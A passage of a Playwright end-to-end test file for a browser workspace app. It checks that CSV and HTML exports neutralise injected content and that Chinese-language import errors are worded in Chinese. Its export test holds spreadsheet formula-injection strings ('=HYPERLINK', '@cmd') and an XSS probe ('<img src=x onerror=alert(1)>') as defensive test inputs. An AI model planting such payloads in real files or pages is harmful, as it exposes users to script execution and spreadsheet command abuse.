  await page.getByTestId('insights-import-confirm').click();
  await expect(page.getByTestId('insights-active')).toBeVisible();

  const [csv] = await Promise.all([page.waitForEvent('download'), page.getByTestId('insights-export-csv').click()]);
  const csvText = await (await csv.createReadStream()).toArray().then((chunks) => Buffer.concat(chunks).toString('utf8'));
  for (const formula of ['=HYPERLINK', '+SUM', '@cmd']) {
    expect(csvText).not.toMatch(new RegExp(`(^|,)"?${formula.replace(/[+]/g, '\\+')}`, 'm'));
    expect(csvText).toContain(`'${formula}`);
  }
  const [html] = await Promise.all([page.waitForEvent('download'), page.getByTestId('insights-export-html').click()]);
  const htmlText = await (await html.createReadStream()).toArray().then((chunks) => Buffer.concat(chunks).toString('utf8'));
  expect(htmlText).not.toContain('<img src=x');
  expect(htmlText).toContain('&lt;img src=x onerror=alert(1)&gt;');
  await expectSafe(session, baseURL!);
});

// ---------------------------------------------------------------------------------------------
// 6. In Chinese, every refusal's headline says why, in Chinese

/** English wording that must not be left in a Chinese headline (file names and field names may be). */
const ENGLISH_WORDING = /\b(must|found|is not|cannot|could not|refused|Nothing was|missing|malformed|truncated|Record \d)\b/i;

async function expectChineseHeadline(error: Locator, ...parts: Array<string | RegExp>): Promise<void> {
  await expect(error).toBeVisible({ timeout: 60_000 });
  const headline = error.locator('.error-title');
  for (const part of parts) await expect(headline).toContainText(part);
  const text = (await headline.textContent()) ?? '';
  expect(text).toMatch(/\p{Script=Han}/u);
  expect(text).not.toMatch(ENGLISH_WORDING);
}

test('in Chinese, the headline of each refusal states its reason in Chinese: backup, dataset, classifier, templates, knowledge base, model folder', async ({
  context,
  baseURL,
}) => {
  test.setTimeout(240_000);
  const network = recordNetwork(context);
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  page.on('dialog', (dialog) => void dialog.accept());
  const go = async (route: string) => {
    await page.goto(`/?preset=fixtures&backend=wasm&lang=zh-CN#/${route}`);
    await page.waitForFunction(() => window.llmaosWorkspace !== undefined);
    await expect(page.locator('html')).toHaveAttribute('lang', 'zh-CN');
  };

  await test.step('backup restore: a record check (point 5) inside the restore refusal', async () => {
    await go('settings');
    await restore(page, 'yesterday.json', backupText(stores((s) => void (s.datasets![0]!.createdAt = 'yesterday'))));
    await expectChineseHeadline(
      page.getByTestId('backup-restore-error'),
      '未恢复任何内容',
      '备份中“datasets”的第 1 条记录格式有误',
      '“createdAt”必须是日期',
      '"yesterday"',
    );
    await restore(page, 'newer.json', backupText({}, { version: 99 }));
    await expectChineseHeadline(page.getByTestId('backup-restore-error'), '未恢复任何内容', '更新版本的工作台');
  });

  await test.step('dataset: a binary file named .csv in Insights', async () => {
    await go('insights');
    await page
      .getByTestId('insights-import-input')
      .setInputFiles({ name: 'reviews.csv', mimeType: 'text/csv', buffer: Buffer.from([0x00, 0x01, 0x02, 0x03, 0xff, 0x00, 0x10, 0x00]) });
    await expectChineseHeadline(page.getByTestId('insights-import-error'), '“reviews.csv”不是文本文件');
  });

  await test.step('classifier file: not JSON, in Customize', async () => {
    await go('customize');
    await page
      .getByTestId('custom-import-classifier')
      .setInputFiles({ name: 'broken.classifier.json', mimeType: 'application/json', buffer: Buffer.from('{"format": "llmaos-classifier", ') });
    await expectChineseHeadline(page.getByTestId('custom-import-error-file'), '此文件不是分类器', '不是有效的 JSON');
  });

  await test.step('templates file: a template using an undeclared variable, in Write', async () => {
    await go('write');
    const file = { format: TEMPLATE_FILE_FORMAT, version: 1, templates: [{ id: 't', name: 'Reply', body: 'Hello {{customer}}', variables: [] }] };
    await page
      .getByTestId('write-templates-import')
      .setInputFiles({ name: 'templates.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(file)) });
    await expectChineseHeadline(page.getByTestId('write-library-error'), '这不是有效的模板文件', '使用了 {{customer}}，但没有声明');
  });

  await test.step('knowledge base: a FAQ CSV without question and answer columns, in Ask', async () => {
    await go('ask');
    await page.getByTestId('kb-import-input').setInputFiles({ name: 'faq.csv', mimeType: 'text/csv', buffer: Buffer.from('title,body\nShipping,Two days\n') });
    await expectChineseHeadline(page.getByTestId('kb-error'), '无法添加 faq.csv', '需要“question”和“answer”两列', 'title, body');
  });

  await test.step('model folder: declared external data that is missing (point 6), in Models', async () => {
    await go('models');
    await page.getByTestId('import-folder-input').setInputFiles(folder('zh-no-onnx-data', (d) => declareExternalData(d)));
    await expectChineseHeadline(page.getByTestId('import-error'), '需要其外部数据文件“onnx/model_quantized.onnx_data”，但文件夹中没有该文件');
  });

  expect(network.offOrigin(baseURL!), network.toString()).toEqual([]);
  expect(errors).toEqual([]);
});
